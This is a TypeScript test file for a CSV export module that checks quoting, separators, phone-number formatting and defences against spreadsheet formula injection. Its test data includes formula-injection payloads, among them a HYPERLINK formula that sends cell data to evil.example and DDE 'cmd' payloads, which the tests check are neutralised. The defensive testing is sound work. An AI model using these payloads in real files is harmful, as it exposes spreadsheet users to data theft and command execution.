import { CSV_START, type CsvCell, csvOf, csvRow, nationalPhone, phoneOf } from '@consult/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const BEGINS_FORMULA = /^(?:[\t\r\n]|[\p{Z}\p{C}]*[-=+@＝＋－＠﹦﹢﹣﹫])/u;

/** Reads such a file as RFC 4180 says, with `separator` between cells; quotes count only at the beginning of a cell. */
function read(text: string, separator = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let [isQuoted, isStart] = [false, true];
  for (let at = 0; at < text.length; at++) {
    const sign = text[at]!;
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') cell += text[at++];
      else isQuoted = false;
    } else if (isStart && sign === '"') {
      isQuoted = true;
      isStart = false;
    } else if (sign === separator || sign === '\n') {
      row.push(sign === '\n' ? cell.replace(/\r$/, '') : cell);
      cell = '';
      isStart = true;
      if (sign === '\n') rows.push(row);
      if (sign === '\n') row = [];
    } else {
      cell += sign;
      isStart = false;
    }
  }
  return rows;
}

/** Takes out the apostrophes that were put in. */
const asWritten = (cell: string) =>
  cell
    .replace(/([,;\t\r\n])'(?='*(?:(?![\t\r\n])[\p{Z}\p{C}"])*[-=+@＝＋－＠﹦﹢﹣﹫])/gu, '$1')
    .replace(/^'(?='*(?:[\t\r\n]|(?:(?![\t\r\n])[\p{Z}\p{C}])*[-=+@＝＋－＠﹦﹢﹣﹫]))/u, '');

const cellOf = (cell: CsvCell) => read(csvRow([cell]))[0]![0]!;

/** Words out of the signs that matter, and any others. */
const nasty = fc.oneof(
  fc
    .array(
      fc.constantFrom(...SIGNS, "'", '"', ',', ';', '\t', '\r', '\n', ' ', '\u00a0', '\u200b', 'я', 'a', '1'),
    )
    .map((signs) => signs.join('')),
  fc.string({ unit: 'binary' }),
);

describe('a table for spreadsheets', () => {
  it('begins with the mark by which Excel knows Russian letters, has semicolons and whole rows', () => {
    expect(
      csvOf([
        ['Номер', 'Врач', 'Отказов'],
        ['Ж-2026-000123', null, 2],
      ]),
    ).toBe(`${CSV_START}"Номер";"Врач";"Отказов"\r\n"Ж-2026-000123";"";"2"\r\n`);
    expect(new TextEncoder().encode(csvOf([]))).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it.each([
    ['a quote', 'клиника «Нева» "24"', '"клиника «Нева» ""24"""\r\n'],
    ['a semicolon', 'утром; не в среду', '"утром; не в среду"\r\n'],
    ['a line’s end', 'болит спина\nвторую неделю', '"болит спина\nвторую неделю"\r\n'],
    ['nothing', '', '""\r\n'],
  ])('keeps %s within its cell', (_, text, row) => {
    expect(csvRow([text])).toBe(row);
  });

  it('leaves numbers as they are, a negative one too', () => {
    expect(csvRow([-3, 0.5])).toBe('"-3";"0.5"\r\n');
  });

  it.each(SIGNS)('lets no cell begin with %s, nor with blanks or quotes before it', (sign) => {
    for (const before of ['', ' ', '\u00a0', '\u200b', '\uFEFF', '\0']) {
      expect(cellOf(`${before}${sign}1`)).toBe(`'${before}${sign}1`);
    }
    for (const before of ['\t', '\r', '\n']) {
      expect(cellOf(`${before}${sign}1`)).toBe(`'${before}'${sign}1`);
    }
    expect(cellOf(`"${sign}1`)).toBe(`"${sign}1`); // a quote is a letter here, and stays the first
  });

  it.each(['\tx', '\rx', '\nx'])('lets no cell begin with what a program skips: %j', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Ваша запись")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+7(999)1234567;=1+1',
    "Иванов,=cmd|'/C calc'!A0",
    'Иванов;=1+1',
    'Иванов"\r\n=1+1',
    "боль\n-2+3+cmd|'/C calc'!A0",
    '＝１＋１',
  ])('takes a cell for text, whichever separator is looked for: %s', (text) => {
    expect(asWritten(cellOf(text))).toBe(text);
    for (const separator of [';', ',', '\t']) {
      const cells = read(csvRow(['Ж-1', text, 'x']), separator).flat();
      for (const cell of cells) expect(cell).not.toMatch(BEGINS_FORMULA);
    }
  });

  it.each(['Ж-2026-000123', 'Мамин-Сибиряк', 'a@b.example', 'с 5 до 7, кроме среды', 'температура 37-38'])(
    'changes nothing in %s',
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );

  it('has telephone numbers that can be read, and dialled as they stand', () => {
    expect(cellOf('+78121234567')).toBe("'+78121234567");
    expect(cellOf(nationalPhone('+78121234567'))).toBe('8 (812) 123-45-67');
  });

  it('gives back the words that were put in', () => {
    fc.assert(
      fc.property(fc.array(fc.array(nasty, { minLength: 1 })), (rows) => {
        const text = csvOf(rows);
        const found = read(text.slice(CSV_START.length));
        expect(found.map((row) => row.map(asWritten))).toEqual(rows);
      }),
      { numRuns: 1000 },
    );
  });

  it('begins no formula, whichever separator a program looks for, quotes known to it or not', () => {
    fc.assert(
      fc.property(fc.array(nasty, { minLength: 1 }), (row) => {
        const text = csvRow(row);
        const cells = [...read(text, ';').flat(), ...read(text, ',').flat(), ...text.split(/[;,\t\r\n]+/)];
        for (const cell of cells) expect(cell).not.toMatch(/^[\p{Z}\p{C}]*[-=+@＝＋－＠﹦﹢﹣﹫]/u);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('a telephone number as it is dialled', () => {
  it('is the same number', () => {
    const digits = fc.string({ unit: fc.constantFrom(...'0123456789'), minLength: 10, maxLength: 10 });
    fc.assert(fc.property(digits, (ten) => phoneOf(nationalPhone(`+7${ten}`)) === `+7${ten}`));
  });

  it('is left alone where it is no such number', () => {
    expect(nationalPhone('112')).toBe('112');
  });
});
